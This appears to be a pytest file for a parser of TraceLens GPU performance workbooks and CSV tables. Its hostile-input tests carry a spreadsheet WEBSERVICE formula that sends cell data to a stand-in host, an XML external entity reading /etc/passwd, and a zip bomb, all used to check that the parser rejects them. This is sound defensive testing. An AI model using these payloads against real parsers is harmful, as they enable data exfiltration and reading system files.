"""TraceLens' reports: workbooks, directories of CSV files, comparisons, several ranks; and hostile workbooks."""

import io
import zipfile

import pytest

from tprimat import read
from tprimat.read.parsing.parsed_log import InputFile
from tprimat.read.tracelens import FILE_FORMATS

WORKBOOK, TABLES = FILE_FORMATS

PARTS = {"computation": "computation", "exposed_comm": "exposed_communication", "idle": "idle", "total": "total"}
SINGLE = (
    "171dd747_gpu_only_trace_gpu_only_trace_perf_report.xlsx",
    "171dd747_xdit_hunyuanvideo_perf_report.xlsx",
    "203e0328_reference_h100_perf_report.xlsx",
    "203e0328_reference_mi300_perf_report.xlsx",
)


def runs_of(content: bytes, name="report.xlsx"):
    assert read.file_format_of(content[: read.HEAD]) is WORKBOOK
    return [reading.run() for reading in WORKBOOK.read([InputFile(name, io.BytesIO(content))], {})]


def workbook(sheets: dict[str, list[list]]) -> bytes:
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.Workbook()
    book.remove(book.active)
    for title, rows in sheets.items():
        sheet = book.create_sheet(title)
        for row in rows:
            sheet.append(row)
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


TIMELINE = [
    ["type", "time ms", "percent"],
    ["computation_time", 80.0, 80],
    ["exposed_comm_time", 10.0, 10],
    ["exposed_memcpy_time", 0.0, 0],
    ["idle_time", 10.0, 10],
    ["total_time", 100.0, 100],
]


@pytest.mark.parametrize("name", SINGLE)
def test_a_real_report_is_read_as_its_truth_says(name, samples, truth):
    pytest.importorskip("openpyxl")
    expected = truth("tracelens")[name]
    (run,) = runs_of((samples / "tracelens" / name).read_bytes())
    for part, milliseconds in expected["totals_ms"].items():
        assert run.breakdown[PARTS[part]] == pytest.approx(milliseconds / 1e3)
    for category, milliseconds in expected["top_categories_ms"] or ():
        assert run.breakdown[f"category {category}"] == pytest.approx(milliseconds / 1e3)
    if "kernel_summary_total_ms" in expected:
        assert run.native_metrics["kernel_total_seconds"] == pytest.approx(expected["kernel_summary_total_ms"] / 1e3)
    if "categories_total_ms" in expected:
        assert run.native_metrics["category_total_seconds"] == pytest.approx(expected["categories_total_ms"] / 1e3)
    assert run.steps == ()
    assert run.framework == "tracelens"


def test_a_real_comparison_gives_the_two_sides_of_the_single_reports(samples, truth):
    pytest.importorskip("openpyxl")
    name = "203e0328_reference_compare_h100_mi300_qwen.xlsx"
    expected = truth("tracelens")[name]["totals_ms"]
    runs = {run.label: run for run in runs_of((samples / "tracelens" / name).read_bytes())}
    assert set(runs) == {"h100", "mi300"}
    for side, run in runs.items():
        for part, milliseconds in expected[side].items():
            assert run.breakdown[PARTS[part]] == pytest.approx(milliseconds / 1e3)
        single = truth("tracelens")[f"203e0328_reference_{side}_perf_report.xlsx"]
        assert run.native_metrics["kernel_total_seconds"] == pytest.approx(single["kernel_summary_total_ms"] / 1e3)


def test_a_folder_of_tables_of_two_ranks():
    def tables(rank, computation):
        timeline = f"type,time ms,percent\ncomputation_time,{computation},80\ntotal_time,100,100\n"
        collectives = "rank,Collective name,dur_sum\n0,allreduce,5000\n0,allgather,2500\n"
        folder = f"traces/rank{rank}_perf_report_csvs"
        return [
            InputFile(f"{folder}/gpu_timeline.csv", io.BytesIO(timeline.encode())),
            InputFile(f"{folder}/coll_analysis.csv", io.BytesIO(collectives.encode())),
        ]

    parts = [*tables(0, 80.0), *tables(1, 60.0)]
    assert len({TABLES.together(part.name) for part in parts}) == 1
    assert all(read.file_format_of(part.stream.getvalue()) is TABLES for part in parts)
    (reading,) = TABLES.read(parts, {})
    run = reading.run()
    assert run.breakdown["computation"] == pytest.approx(0.07)
    assert run.breakdown["collective allreduce"] == pytest.approx(0.005)
    assert run.native_metrics["computation_highest_of_ranks_seconds"] == pytest.approx(0.08)
    assert reading.notes == ("means of 2 ranks",)


def test_ranks_are_together_and_other_reports_are_not():
    together = WORKBOOK.together
    assert together("a/rank0_perf_report.xlsx") == together("a/rank12_perf_report.xlsx")
    assert together("a/h100_perf_report.xlsx") != together("a/mi300_perf_report.xlsx")


class TestHostile:
    def test_a_formula_is_not_evaluated(self):
        rows = [list(row) for row in TIMELINE]
        rows[1][1] = '=WEBSERVICE("http://example.invalid/"&A1)'
        (run,) = runs_of(workbook({"gpu_timeline": rows}))
        assert "computation" not in run.breakdown
        assert run.breakdown["idle"] == pytest.approx(0.01)

    def test_a_workbook_of_something_else(self):
        with pytest.raises(ValueError, match="no sheet gpu_timeline"):
            runs_of(workbook({"Sheet1": [["name", "price"], ["a", 1]], "empty": []}))

    def test_parts_that_contradict_each_other_are_said(self):
        rows = [list(row) for row in TIMELINE]
        rows[5][1] = 50.0
        (run,) = runs_of(workbook({"gpu_timeline": rows}))
        assert any("one of them is wrong" in warning for warning in run.warnings)

    def replaced(self, name: str, content: bytes) -> bytes:
        stream = io.BytesIO()
        with (
            zipfile.ZipFile(io.BytesIO(workbook({"gpu_timeline": TIMELINE}))) as old,
            zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as new,
        ):
            for info in old.infolist():
                new.writestr(info.filename, content if info.filename == name else old.read(info))
        return stream.getvalue()

    def test_a_bomb(self):
        content = self.replaced("xl/worksheets/sheet1.xml", b"<worksheet>" + b" " * (1 << 25))
        with pytest.raises(ValueError, match="from almost nothing"):
            runs_of(content)

    @pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
    def test_entities(self, encoding):
        evil = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><worksheet>&e;</worksheet>'
        with pytest.raises(ValueError, match="entities"):
            runs_of(self.replaced("xl/worksheets/sheet1.xml", evil.encode(encoding)))

    def test_damage(self):
        content = workbook({"gpu_timeline": TIMELINE})
        for end in range(100, len(content) - 1, 211):
            with pytest.raises(ValueError, match=r"damaged|no sheet"):
                WORKBOOK.read([InputFile("x", io.BytesIO(content[:end]))], {})
        for place in range(60, len(content), 101):
            noisy = content[:place] + b"\xff" * 4 + content[place + 4 :]
            try:
                readings = WORKBOOK.read([InputFile("x", io.BytesIO(noisy))], {})
            except ValueError:
                continue
            assert len(readings) == 1
